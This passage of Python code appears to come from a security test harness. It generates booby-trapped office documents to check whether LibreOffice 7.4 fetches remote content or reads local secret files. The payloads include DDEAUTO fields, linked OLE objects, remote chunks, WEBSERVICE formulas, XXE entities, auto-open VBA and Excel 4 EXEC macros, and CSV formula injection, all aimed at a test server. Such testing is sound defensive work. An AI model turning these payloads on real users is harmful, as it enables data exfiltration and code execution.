    return field_document(form, f'INCLUDETEXT "{site.secret(name)}.txt"')


@trap("dde-field", "docx rtf", why="7.4 shows the result that is stored with the field")
def _(site, name, form):
    return field_document(form, f'DDEAUTO soffice "{site.url(name)}.odt" bm')


@trap("dde-program", "docx rtf", why="7.4 knows DDE among its own documents only, and not from these fields")
def _(site, name, form):
    return field_document(form, f'DDEAUTO {site.mark()} "{name}"')


@trap("link-field", "docx rtf", why="7.4 shows the result that is stored with the field")
def _(site, name, form):
    return field_document(form, f'LINK Excel.Sheet.12 "{site.url(name)}.ods" "Sheet1!R1C1" \\a \\t')


@trap("html-chunk", WORDS, why="7.4 reads no HTML chunk")
def _(site, name, form):
    pack = word(form)
    pack.add("word/chunk.html", f'<html><body><p>x<img src="{site.url(name)}.png"></p></body></html>', "text/html")
    rid = pack.relate(ooxml.DOCUMENT, "aFChunk", "chunk.html")
    return word_bytes(pack, f'{paragraph()}<w:altChunk r:id="{rid}"/>{paragraph()}')


@trap("remote-chunk", WORDS, why="7.4 reads chunks of the package alone")
def _(site, name, form):
    pack = word(form)
    rid = pack.relate(ooxml.DOCUMENT, "aFChunk", f"{site.url(name)}.docx", "External")
    return word_bytes(pack, f'{paragraph()}<w:altChunk r:id="{rid}"/>{paragraph()}')


@trap("sub-document", WORDS, why="7.4 leaves out sub-documents")
def _(site, name, form):
    pack = word(form)
    rid = pack.relate(ooxml.DOCUMENT, "subDocument", f"{site.url(name)}.docx", "External")
    return word_bytes(pack, f'{paragraph()}<w:subDoc r:id="{rid}"/>')


@trap("linked-object", "docx xlsx pptx ppsx", {"pptx": "fetch", "ppsx": "fetch"}, "7.4 shows the picture that stands for the object")
def _(site, name, form):
    target, mode = f"{site.url(name)}.ods", ("External",)
    picture = {"docx": ooxml.DOCUMENT, "xlsx": ""}.get(form, slide_name(1))
    if form == "docx":
        pack = word(form)
        pack.add("word/media/i.png", PNG)
        image = pack.relate(picture, "image", "media/i.png")
        rid = pack.relate(picture, "oleObject", target, *mode)
        return word_bytes(pack, paragraph('<w:r><w:object><v:shape id="s1" style="width:100pt;height:60pt" o:ole="">'
                                          f'<v:imagedata r:id="{image}"/></v:shape><o:OLEObject Type="Link" ProgID="Excel.Sheet.12"'
                                          f' ShapeID="s1" DrawAspect="Content" r:id="{rid}" UpdateMode="Always">'
                                          "<o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r>"))
    if FAMILY[form] == "impress":
        pack = show(form)
        pack.add("ppt/media/i.png", PNG)
        image = pack.relate(picture, "image", "../media/i.png")
        rid = pack.relate(picture, "oleObject", target, *mode)
        shown_picture = f'r:embed="{image}"'
        return one_slide(pack, '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="5" name="o"/><p:cNvGraphicFramePr/><p:nvPr/>'
                               '</p:nvGraphicFramePr><p:xfrm><a:off x="900000" y="2500000"/><a:ext cx="1800000" cy="1200000"/>'
                               '</p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
                               f'<p:oleObj name="o" r:id="{rid}" imgW="1800000" imgH="1200000" progId="Excel.Sheet.12">'
                               f'<p:link updateAutomatic="1"/>{SLIDE_PICTURE.format("", shown_picture)}</p:oleObj></a:graphicData></a:graphic></p:graphicFrame>')
    pack = book(form)
    sheet = "xl/worksheets/sheet1.xml"
    link = "xl/externalLinks/externalLink1.xml"
    rid = pack.relate(link, "oleObject", target, *mode)
    pack.add(link, f'{XML}<externalLink {ooxml.SHEET}><oleLink r:id="{rid}" progId="Excel.Sheet.12"><oleItems><oleItem'
                   " name=\"'\" advise=\"1\" preferPic=\"1\"/></oleItems></oleLink></externalLink>",
             ooxml.OFFICE + "spreadsheetml.externalLink+xml")
    rid = pack.relate(ooxml.WORKBOOK, "externalLink", "externalLinks/externalLink1.xml")
    pack.add("xl/drawings/vml1.vml", SHEET_SHAPE, ooxml.OFFICE + "vmlDrawing")
    drawing = pack.relate(sheet, "vmlDrawing", "../drawings/vml1.vml")
    return one_sheet(pack, after=f'<legacyDrawing r:id="{drawing}"/><oleObjects><oleObject progId="Excel.Sheet.12" link="[1]!\'\'"'
                                 ' oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025"/></oleObjects>',
                     tail=f'<externalReferences><externalReference r:id="{rid}"/></externalReferences>')


@trap("nested-object", "docx xlsx pptx", why="7.4 does not calculate embedded sheets of these formats anew")
def _(site, name, form):
    inner = formula_book("xlsx", f'_xlfn.WEBSERVICE("{site.url(name)}.xml")')
    relation = "package"
    kind = ooxml.OFFICE + "spreadsheetml.sheet"
    if form == "docx":
        pack = word(form)
        pack.add("word/embeddings/e.xlsx", inner, kind)
        rid = pack.relate(ooxml.DOCUMENT, relation, "embeddings/e.xlsx")
        return word_bytes(pack, paragraph('<w:r><w:object><v:shape id="s1" style="width:100pt;height:60pt" o:ole=""/>'
                                          '<o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" ShapeID="s1" DrawAspect="Content"'
                                          f' r:id="{rid}"/></w:object></w:r>'))
    if form == "pptx":
        pack = show(form)
        pack.add("ppt/embeddings/e.xlsx", inner, kind)
        rid = pack.relate(slide_name(1), relation, "../embeddings/e.xlsx")
        return one_slide(pack, '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="5" name="o"/><p:cNvGraphicFramePr/><p:nvPr/>'
                               '</p:nvGraphicFramePr><p:xfrm><a:off x="900000" y="2500000"/><a:ext cx="1800000" cy="1200000"/>'
                               '</p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
                               f'<p:oleObj name="o" r:id="{rid}" imgW="1800000" imgH="1200000" progId="Excel.Sheet.12"><p:embed/>'
                               "</p:oleObj></a:graphicData></a:graphic></p:graphicFrame>")
    pack = book(form)
    pack.add("xl/embeddings/e.xlsx", inner, kind)
    rid = pack.relate("xl/worksheets/sheet1.xml", relation, "../embeddings/e.xlsx")
    pack.add("xl/drawings/vml1.vml", SHEET_SHAPE, ooxml.OFFICE + "vmlDrawing")
    drawing = pack.relate("xl/worksheets/sheet1.xml", "vmlDrawing", "../drawings/vml1.vml")
    return one_sheet(pack, after=f'<legacyDrawing r:id="{drawing}"/><oleObjects><oleObject progId="Excel.Sheet.12" shapeId="1025"'
                                 f' r:id="{rid}"/></oleObjects>')


@trap("nested-chunk", WORDS, "fetch")
def _(site, name, form):
    pack = word(form)
    pack.add("word/chunk.docx", with_picture("docx", f"{site.url(name)}.png"), ooxml.MAIN["docx"])
    rid = pack.relate(ooxml.DOCUMENT, "aFChunk", "chunk.docx")
    return word_bytes(pack, f'{paragraph()}<w:altChunk r:id="{rid}"/>{paragraph()}')


@trap("media", SHOWS, why="a film is fetched when it is played; Debian's -nogui packages have no player")
def _(site, name, form):
    pack = show(form)
    pack.add("ppt/media/i.png", PNG)
    image = pack.relate(slide_name(1), "image", "../media/i.png")
    video = pack.relate(slide_name(1), "video", f"{site.url(name)}.mp4", "External")
    return one_slide(pack, SLIDE_PICTURE.format(f'<a:videoFile r:link="{video}"/>', f'r:embed="{image}"'))


@trap("slide-sound", SHOWS, why="a sound is fetched when the slide show comes to it")
def _(site, name, form):
    pack = show(form)
    sound = pack.relate(slide_name(1), "audio", f"{site.url(name)}.wav", "External")
    return one_slide(pack, after=f'<p:transition><p:sndAc><p:stSnd><p:snd r:embed="{sound}" name="s"/></p:stSnd></p:sndAc></p:transition>')


@trap("linked-master", SHOWS, "fetch")
def _(site, name, form):
    pack = show(form)
    pack.relate("ppt/slideMasters/slideMaster1.xml", "image", f"{site.url(name)}.png", "External")
    master = pack.parts["ppt/slideMasters/slideMaster1.xml"]
    fill = '<p:bg><p:bgPr><a:blipFill><a:blip r:link="rId3"/><a:stretch/></a:blipFill><a:effectLst/></p:bgPr></p:bg>'
    pack.parts["ppt/slideMasters/slideMaster1.xml"] = master.replace("<p:cSld>", f"<p:cSld>{fill}", 1)
    return one_slide(pack)


SVG = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="60">'
       '<style>@import url({0}.css);</style><image xlink:href="{0}.png" width="50" height="50"/>'
       '<image xlink:href="{1}.png" width="50" height="50"/><rect width="9" height="9"/></svg>')


@trap("svg-inside", "odt ods odp odg docx pptx", "read")
def _(site, name, form):
    svg = SVG.format(site.url(name), site.secret(name))
    if form in ODF:
        return shown(form, frame('<draw:image xlink:href="Pictures/i.svg" xlink:type="simple" draw:mime-type="image/svg+xml"/>'),
                     parts={"Pictures/i.svg": svg})
    extension = ('r:embed="{}"><a:extLst><a:ext uri="{{96DAC541-7B7A-43D3-8B79-37D633B846F1}}"><asvg:svgBlip xmlns:asvg='
                 '"http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="{}"/></a:ext></a:extLst></a:blip')
    source, make, folder = (ooxml.DOCUMENT, word, "word") if form == "docx" else (slide_name(1), show, "ppt")
    pack = make(form)
    pack.add(f"{folder}/media/i.svg", svg)
    rid = pack.relate(source, "image", ("" if form == "docx" else "../") + "media/i.svg")
    if form == "docx":
        return word_bytes(pack, paragraph(PICTURE.format(f'r:embed="{rid}"')))
    return one_slide(pack, SLIDE_PICTURE.format("", f'r:embed="{rid}"'))


def formula_book(form, formula):
    return one_sheet(book(form), f'<c r="B1" t="str"><f>{escaped(formula)}</f><v>old</v></c>')


@trap("webservice", "xlsx xlsm xltx", "fetch")
def _(site, name, form):
    return formula_book(form, f'_xlfn.WEBSERVICE("{site.url(name)}.xml")')


@trap("filterxml", BOOKS, "fetch")
def _(site, name, form):
    return formula_book(form, f'_xlfn.FILTERXML(_xlfn.WEBSERVICE("{site.url(name)}.xml"),"//a")')


def external_book(form, inside, kind, target, formula, relation="externalLinkPath"):
    pack = book(form)
    link = "xl/externalLinks/externalLink1.xml"
    rid = pack.relate(link, relation, target, "External") if target else ""
    pack.add(link, f"{XML}<externalLink {ooxml.SHEET}>{inside.format(rid)}</externalLink>", ooxml.OFFICE + "spreadsheetml.externalLink+xml")
    rid = pack.relate(ooxml.WORKBOOK, "externalLink", "externalLinks/externalLink1.xml")
    return one_sheet(pack, f'<c r="B1" t="str"><f>{escaped(formula)}</f><v>old</v></c>',
                     tail=f'<externalReferences><externalReference r:id="{rid}"/></externalReferences>')


EXTERNAL_BOOK = '<externalBook r:id="{}"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'


@trap("external-reference", BOOKS, "fetch")
def _(site, name, form):
    return external_book(form, EXTERNAL_BOOK, "", f"{site.url(name)}.ods", "[1]Sheet1!A1")


@trap("external-local", BOOKS, "read")
def _(site, name, form):
    return external_book(form, EXTERNAL_BOOK, "", f"{site.secret(name)}.ods", "[1]Sheet1!A1")


@trap("dde-link", BOOKS, why="7.4 makes no DDE formula of it (of the form that it writes itself, it does: dde-formula)")
def _(site, name, form):
    inside = (f'<ddeLink ddeService="soffice" ddeTopic="{site.url(name)}.ods"><ddeItems><ddeItem name="a1" advise="1"><values>'
              '<value t="str"><val>old</val></value></values></ddeItem></ddeItems></ddeLink>')
    return external_book(form, inside, "", "", "[1]!a1")


@trap("dde-program", BOOKS, why="DDE reaches LibreOffice's own documents alone; there are no other servers here")
def _(site, name, form):
    inside = (f'<ddeLink ddeService="{site.mark()}" ddeTopic="{name}"><ddeItems><ddeItem name="a1" advise="1"/></ddeItems></ddeLink>')
    return external_book(form, inside, "", "", "[1]!a1")


@trap("web-query", BOOKS, "fetch")
def _(site, name, form):
    pack = book(form)
    pack.add("xl/connections.xml", f'{XML}<connections {ooxml.SHEET}><connection id="1" name="c" type="4" refreshedVersion="3" background="1"'
                                   f' refreshOnLoad="1" saveData="1"><webPr sourceData="1" parsePre="1" consecutive="1" url="{site.url(name)}.html"'
                                   ' htmlTables="1"/></connection></connections>', ooxml.OFFICE + "spreadsheetml.connections+xml")
    pack.relate(ooxml.WORKBOOK, "connections", "connections.xml")
    pack.add("xl/queryTables/q1.xml", f'{XML}<queryTable {ooxml.SHEET} name="c" refreshOnLoad="1" connectionId="1"/>',
             ooxml.OFFICE + "spreadsheetml.queryTable+xml")
    pack.relate("xl/worksheets/sheet1.xml", "queryTable", "../queryTables/q1.xml")
    return one_sheet(pack, tail='<definedNames><definedName name="c" localSheetId="0">表!$A$1:$B$2</definedName></definedNames>')


def part_of(form):
    return {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}[form]


@trap("entity-local", "docx xlsx pptx", why="the reader of XML resolves no external entities")
def _(site, name, form):
    pack = {"docx": word, "xlsx": book, "pptx": show}[form](form)
    {"docx": lambda: word_bytes(pack, "<w:p><w:r><w:t>&s;</w:t></w:r></w:p>"), "xlsx": lambda: one_sheet(pack),
     "pptx": lambda: one_slide(pack)}[form]()
    inside = {"docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml", "pptx": slide_name(1)}[form]
    prolog = f'{XML}<!DOCTYPE x [<!ENTITY s SYSTEM "{site.secret(name)}.txt">]>'
    pack.parts[inside] = pack.parts[inside].replace(XML, prolog, 1).replace(VISIBLE, "&s;")
    return pack.bytes()


# ---- VBA and the macros of Excel 4 ---------------------------------------------------------------------

WRITER_VBA = "Writer 7.4 reads the modules, but calls none of them when it opens the document (Calc does)"


def evil_vba(site, name, *subs):
    return "".join(evil_basic(site, name, sub) for sub in subs)


def word_modules(site, name):
    return {"ThisDocument": (evil_vba(site, name, "Document_Open"), True), "Module1": (evil_vba(site, name, "AutoOpen"), False)}


def book_modules(site, name):
    return {"ThisWorkbook": (evil_vba(site, name, "Workbook_Open"), True), "Sheet1": ("", True),
            "Module1": (evil_vba(site, name, "Auto_Open"), False)}


@trap("vba-open", "docm dotm xlsm", {"xlsm": ALL_THREE}, WRITER_VBA)
def _(site, name, form):
    make, main, modules = (book, ooxml.WORKBOOK, book_modules) if form == "xlsm" else (word, ooxml.DOCUMENT, word_modules)
    pack = make(form)
    pack.add(f"{main.partition('/')[0]}/vbaProject.bin", vba.project_bin(modules(site, name)), ooxml.VBA_TYPE)
    pack.relate(main, ooxml.VBA_RELATION, "vbaProject.bin")
    if form != "xlsm":
        return word_bytes(pack, paragraph())
    rid = book_sheet(pack, 1, f'<sheetPr codeName="Sheet1"/><sheetData><row r="1">{text_cell("A1", VISIBLE)}</row></sheetData>')
    return book_bytes(pack, [("表", rid, "")], before='<workbookPr codeName="ThisWorkbook"/>')


@trap("vba-open", "xls", ALL_THREE)
def _(site, name, form):
    return biff.workbook([("表", biff.label(0, 0, VISIBLE), biff.NORMAL, "Sheet1")], modules=book_modules(site, name))


@trap("vba-open", "pptm", why="a presentation has no macro that runs when it is opened")
def _(site, name, form):
    pack = show(form)
    pack.add("ppt/vbaProject.bin", vba.project_bin(book_modules(site, name)), ooxml.VBA_TYPE)
    pack.relate(ooxml.PRESENTATION, ooxml.VBA_RELATION, "vbaProject.bin")
    return one_slide(pack)


@trap("vba-open", "doc", why=WRITER_VBA)
def _(site, name, form):
    return odf("odt", f"<text:p>{VISIBLE}</text:p>")


def with_macros(site, name):
    def finish(data):
        files = cfb.read(data)
        files["Macros"] = vba.project(word_modules(site, name))
        return cfb.write(files)
    return finish


TRAPS[-1].source, TRAPS[-1].finish = "odt", with_macros


@trap("xlm-open", "xls", why="LibreOffice has no macros of Excel 4")
def _(site, name, form):
    cells = biff.command(0, 0, f"{site.mark()} {name}") + biff.halt(1, 0)
    return biff.workbook([("表", biff.label(0, 0, VISIBLE), biff.NORMAL, ""), ("Macro1", cells, biff.MACRO_SHEET, "")], auto_open=1)


@trap("xlm-open", "xlsm", why="LibreOffice has no macros of Excel 4")
def _(site, name, form):
    pack = book(form)
    rid = book_sheet(pack, 1, f'<sheetData><row r="1">{text_cell("A1", VISIBLE)}</row></sheetData>')
    space = "http://schemas.microsoft.com/office/excel/2006/main"
    pack.add("xl/macrosheets/sheet1.xml", f'{XML}<xm:macrosheet xmlns:xm="{space}" {ooxml.SHEET}><sheetData><row r="1"><c r="A1"><f>'
                                          f'EXEC("{site.mark()} {name}")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData>'
                                          "</xm:macrosheet>", "application/vnd.ms-excel.macrosheet+xml")
    macro = pack.relate(ooxml.WORKBOOK, "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml")
    return book_bytes(pack, [("表", rid, ""), ("Macro1", macro, "")],
                      after='<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>')


# ---- RTF -----------------------------------------------------------------------------------------------

@trap("template", "rtf", why="7.4 keeps the name of the template and does not read it")
def _(site, name, form):
    return rtf("", r"{\*\template " + site.url(name) + ".dotm}")


@trap("linked-object", "rtf", why="7.4 shows the result that is stored with the object")
def _(site, name, form):
    path = f"{site.url(name)}.ods\0".encode()
    moniker = struct_moniker(path)
    return rtf(r"{\object\objautlink\objupdate\objw2000\objh1000{\*\objclass Excel.Sheet.12}{\*\objdata " + moniker.hex() +
               r"}{\result old}}")


@trap("data-source", "rtf", why="7.4 does not connect the data source of RTF")
def _(site, name, form):
    return rtf("", r"{\*\mailmerge\mmlinktoquery\mmdatatypeodso{\mmdatasource " + site.url(name) + ".csv}}")


# ---- csv -----------------------------------------------------------------------------------------------

@trap("formulas", "csv", "fetch")
def _(site, name, form):
    return (f'{VISIBLE},"=WEBSERVICE(""{site.url(name)}.xml"")","=DDE(""soffice"";""{site.url(name)}.ods"";""a1"")",'
            f"\"='{site.url(name)}.ods'#$Sheet1.A1\"\n").encode()


# ---- what the server and the secret files hold ----------------------------------------------------------

PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415478da63f8cff01f"
                    "00040001ff1cf7e95c0000000049454e44ae426082")  # one pixel of SECRET_COLOUR


def answer(path, word="FETCHED"):
    """A well-formed file of the kind that path's ending says, with word as its text where it has one."""
    ending = path.rpartition(".")[2]
    paragraph = f"<text:p>{word}</text:p>"
    cell = f'<table:table-row><table:table-cell office:value-type="string">{paragraph}</table:table-cell></table:table-row>'
    if ending in ("odt", "ott"):
        return odf(ending, f'<text:p><text:bookmark-start text:name="bm"/>{word}<text:bookmark-end text:name="bm"/></text:p>')
    if ending == "ods":
        return odf(ending, f'<table:table table:name="Sheet1">{cell}</table:table>')
    if ending in ("odp", "odg"):
        return shown(ending).replace(VISIBLE.encode(), word.encode())
    return {"png": PNG, "html": f"<html><body><p>{word}</p><table><tr><td>{word}</td></tr></table></body></html>".encode(),
            "xml": f"<r><a>{word}</a></r>".encode()}.get(ending, word.encode())
